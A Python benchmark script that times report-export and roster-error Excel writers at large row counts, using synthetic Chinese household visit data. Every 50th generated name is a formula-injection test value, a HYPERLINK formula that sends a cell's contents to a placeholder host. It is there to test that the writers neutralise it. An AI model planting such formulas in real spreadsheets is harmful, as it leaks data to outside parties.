"""Workbook writers at 10,000 and 100,000 rows (issue 18 deliver 3, issue 12 deliver 3).

    python bench/xlsx_write.py [--rows 10000 100000] [--repeat 3] [--baseline-rows 2000 4000]

Measured (median of the repeats, wall time and peak Python allocations via tracemalloc
off: the figures are plain ``time.perf_counter`` and ``resource`` max RSS):

* the report export (``reports.excel.write_xlsx``) of a visit-register-like report of
  N rows × 8 columns (masked ID number, names, addresses, a long visit text; one row in
  50 holds a formula-like name, one in 97 a control character);
* the roster error workbook (``imports.roster.write_error_workbook``) of N rejected
  rows × 10 columns.

``--baseline-rows`` also times the previous writer's pattern (a normal worksheet,
``append`` then ``sheet.max_row`` per row to style it) at small sizes in the same run, to
show its quadratic growth next to the linear writers. Target: 100,000 rows ≤ 15 s.
"""

from __future__ import annotations

import argparse
import os
import resource
import statistics
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # run from a checkout

from openpyxl import Workbook
from openpyxl.styles import Alignment, Border, Font, Side

from gridclient.imports.roster import RosterPreview, RosterRow, RowStatus, write_error_workbook
from gridclient.reports.data import Column, Period, Report, ReportKind
from gridclient.reports.excel import write_xlsx

COLUMNS = (
    Column("序号", 4, numeric=True),
    Column("走访日期", 10),
    Column("网格", 10),
    Column("住址", 16),
    Column("户主", 6),
    Column("身份证号", 18),
    Column("走访内容", 30),
    Column("走访人", 6),
)


def _name(n: int) -> str:
    if n % 50 == 0:
        return '=HYPERLINK("http://x/?leak="&C5,"点击")'
    if n % 97 == 0:
        return "张\x01三"
    return f"张{n % 1000}三"


def report_rows(count: int) -> list[tuple[object, ...]]:
    return [
        (
            n,
            "2026-09-01",
            f"东村第{n % 30 + 1}网格",
            f"东村幸福路{n}号",
            _name(n),
            f"110105********{n % 10000:04d}",
            "了解家庭生活情况，宣传医保政策，老人身体状况良好。" * (1 + n % 3),
            "李网格员",
        )
        for n in range(1, count + 1)
    ]


def report(count: int) -> Report:
    return Report(
        kind=ReportKind.VISIT_REGISTER,
        unit_name="测试县和平镇",
        period=Period(datetime(2026, 9, 1).date(), datetime(2026, 9, 30).date()),
        columns=COLUMNS,
        rows=tuple(report_rows(count)),
        totals=("合计", f"{count}次", "", "", "", "", "", ""),
        printed_at=datetime(2026, 10, 30, 1, 0, tzinfo=UTC),
        data_as_of=datetime(2026, 10, 29, 12, 0, tzinfo=UTC),
    )


def preview(count: int) -> RosterPreview:
    headers = ("序号", "姓名", "身份证号", "性别", "与户主关系", "联系电话", "户号", "住址")
    rows = [
        RosterRow(
            line=n + 1,
            raw=(
                n,
                _name(n),
                f"11010519800101{n % 10000:04d}",
                "男",
                "户主",
                13900000000 + n,
                f"{n // 3}",
                f"东村幸福路{n // 3}号",
            ),
            status=RowStatus.ERROR,
            reasons=["身份证号校验位错误", "联系电话不是11位手机号"],
        )
        for n in range(1, count + 1)
    ]
    return RosterPreview("花名册", (1,), headers, {}, rows)


def old_pattern(values: list[tuple[object, ...]], path: Path) -> None:
    """What the writers did before: a normal sheet, ``max_row`` per appended row."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    side = Side(style="thin")
    box = Border(left=side, right=side, top=side, bottom=side)
    font = Font(name="宋体", size=10)
    for row_values in values:
        sheet.append([str(v).replace("\x01", "") for v in row_values])
        row = sheet.max_row
        for index in range(1, len(row_values) + 1):
            cell = sheet.cell(row=row, column=index)
            cell.border = box
            cell.font = font
            cell.alignment = Alignment(vertical="center", wrap_text=True)
    workbook.save(path)


def timed(fn: object, repeat: int) -> float:
    assert callable(fn)
    times = []
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        times.append(time.perf_counter() - start)
    return statistics.median(times)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--rows", type=int, nargs="+", default=[10_000, 100_000])
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--baseline-rows", type=int, nargs="*", default=[2_000, 4_000])
    args = parser.parse_args()
    print(f"load average at start: {' '.join(f'{x:.2f}' for x in os.getloadavg())}")
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder)
        for count in args.baseline_rows:
            rows = report_rows(count)
            seconds = timed(lambda rows=rows: old_pattern(rows, out / "old.xlsx"), 1)
            print(f"previous pattern (max_row per row) {count:>7,} rows: {seconds:7.2f} s")
        for count in args.rows:
            data = report(count)
            seconds = timed(lambda data=data: write_xlsx(data, out / "report.xlsx"), args.repeat)
            size = (out / "report.xlsx").stat().st_size / 1e6
            print(
                f"report export        {count:>7,} rows × {len(COLUMNS)}: {seconds:7.2f} s "
                f"({count / seconds:,.0f} rows/s, {size:.1f} MB)"
            )
            rejected = preview(count)
            seconds = timed(
                lambda p=rejected: write_error_workbook(p, out / "errors.xlsx"), args.repeat
            )
            print(
                f"import error workbook {count:>6,} rows × 10: {seconds:7.2f} s "
                f"({count / seconds:,.0f} rows/s)"
            )
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS of the process: {peak:.0f} MB")
    print(f"load average at end: {' '.join(f'{x:.2f}' for x in os.getloadavg())}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
